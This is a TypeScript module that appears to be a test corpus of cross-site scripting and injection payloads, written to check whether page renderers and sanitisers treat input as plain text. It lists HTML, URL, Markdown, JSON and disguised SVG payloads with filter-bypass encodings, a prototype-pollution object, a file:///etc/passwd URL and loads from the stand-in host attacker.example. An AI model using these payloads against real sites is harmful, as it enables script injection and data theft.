/**
 * @fileoverview Texts that run code or load something from elsewhere if a page does not treat them as text. They set
 * `window.owned`, or request the host `attacker.example`. The file imports nothing, so that tests can copy it.
 * @module tools/attack/corpora/page-payloads
 */

/** Code that shows that it has run. */
const RUN = "window.owned=1";
/** The same code for places that do not allow quotes, parentheses, or spaces. */
const RUN_ENCODED = "&#119;indow.owned&#61;1";
const ELSEWHERE = "https://attacker.example";

/** HTML that runs code or loads something. */
export const HTML_PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="${ELSEWHERE}/a.js"></script>`,
  `<script type="module">import "${ELSEWHERE}/b.js"</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN_ENCODED}>`,
  `<img src="${ELSEWHERE}/c.png">`,
  `<img srcset="${ELSEWHERE}/d.png 1x, ${ELSEWHERE}/e.png 2x">`,
  `<picture><source srcset="${ELSEWHERE}/f.png"><img></picture>`,
  `<image src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><image href="${ELSEWHERE}/g.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${ELSEWHERE}/h"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${ELSEWHERE}/i"></object>`,
  `<embed src="${ELSEWHERE}/j">`,
  `<video src=x onerror="${RUN}"></video>`,
  `<video poster="${ELSEWHERE}/k.png"></video>`,
  `<audio src="${ELSEWHERE}/l.mp3" autoplay></audio>`,
  `<body onload="${RUN}">`,
  `<body background="${ELSEWHERE}/m.png">`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="${ELSEWHERE}/n"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/o">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/p.css">`,
  `<link rel="preload" as="image" href="${ELSEWHERE}/q.png">`,
  `<link rel="dns-prefetch" href="//attacker.example">`,
  `<base href="${ELSEWHERE}/">`,
  `<style>@import "${ELSEWHERE}/r.css";</style>`,
  `<style>*{background:url(${ELSEWHERE}/s.png)}</style>`,
  `<p style="background:url(${ELSEWHERE}/t.png);position:fixed;inset:0">x</p>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `\`\${${RUN}}\``,
  `{{constructor.constructor('${RUN}')()}}`,
  `<img/src=x/onerror=${RUN}>`,
  `<img\u0000src=x onerror=${RUN}>`,
  `<\u0000script>${RUN}</script>`,
  `<img src=x onerror\n=\n"${RUN}">`,
  `＜script＞${RUN}＜/script＞`,
  `<a id=location name=location></a><form id=document><input name=cookie></form>`,
];

/** URLs that run code, or that a page must not open by itself. */
export const URL_PAYLOADS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript\t:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&#58;${RUN}`,
  `java&Tab;script:${RUN}`,
  `%6aavascript:${RUN}`,
  `javascript://example.com/%0a${RUN}`,
  `javascript:/*https://example.com*/${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload="${RUN}"/>`,
  `blob:${ELSEWHERE}/x`,
  `filesystem:${ELSEWHERE}/x`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `file:///etc/passwd`,
  `//attacker.example/x`,
  `\\\\attacker.example\\x`,
  `/\\attacker.example/x`,
  `${ELSEWHERE}/"onmouseover="${RUN}`,
  `${ELSEWHERE}/)![x](${ELSEWHERE}/y.png`,
];

/** Markdown around a URL. */
function toMarkdown(url: string): string {
  return [
    `[link](${url}) [angle](<${url}>) [titled](${url} "title\\" onclick=\\"${RUN}")`,
    `![image](${url}) ![angle](<${url}>) [![inside](${url})](${url})`,
    `<${url}> [reference][r] ![reference][r]`,
    `[r]: ${url} "title"`,
    `<a href="${url}">html</a> <img src="${url}">`,
  ].join("\n\n");
}

/** Markdown that contains each payload. */
export const MARKDOWN_PAYLOADS: readonly string[] = [
  ...URL_PAYLOADS.map(toMarkdown),
  ...HTML_PAYLOADS.map((html) => `# ${html}\n\n- ${html}\n\n| a |\n| - |\n| ${html} |\n\n> **${html}**`),
  ...HTML_PAYLOADS.slice(0, 6).map((html) => `\`\`\`${html}\n${html}\n\`\`\`\n\n\`${html}\``),
  `[x]("onclick="${RUN}) [a](b "c' onclick='${RUN}'") \`\`\`html"onload="${RUN}"\n\`\`\``,
];

/** JSON whose keys and values are payloads. `__proto__` is a key of its own, as in parsed JSON. */
export const JSON_PAYLOADS: readonly string[] = [
  JSON.stringify(Object.fromEntries(HTML_PAYLOADS.map((html, index) => [`${index} ${html}`, html]))),
  JSON.stringify(URL_PAYLOADS.map((url, index) => ({ url, [`${index} ${url}`]: [url] }))),
  `{"__proto__":{"owned":1,"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}},"constructor":{"prototype":{"owned":1}}}`,
  `{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${RUN}"}},"key":null,"ref":null,"$$typeof":"x"}`,
];

/** Base64 of an SVG that runs code. */
const SVG = "PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Lm93bmVkPTEiLz4=";

/** Files with types and data that try to be something else. */
export const MEDIA_PAYLOADS: readonly { readonly mediaType: string; readonly data: string }[] = [
  { mediaType: "image/svg+xml", data: SVG },
  { mediaType: "image/svg+xml;image/png", data: SVG },
  { mediaType: "IMAGE/SVG+XML", data: SVG },
  { mediaType: "image/png", data: SVG },
  { mediaType: `image/png" onerror="${RUN}`, data: SVG },
  { mediaType: `image/png;base64,x" onerror="${RUN}`, data: SVG },
  { mediaType: "image/png", data: `x" onerror="${RUN}` },
  { mediaType: "text/html", data: "PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==" },
  { mediaType: "audio/wav", data: SVG },
  { mediaType: "application/pdf", data: SVG },
  { mediaType: "", data: SVG },
];

/** All payloads that are one text. */
export const PAGE_PAYLOADS: readonly string[] = [...HTML_PAYLOADS, ...URL_PAYLOADS, ...MARKDOWN_PAYLOADS];
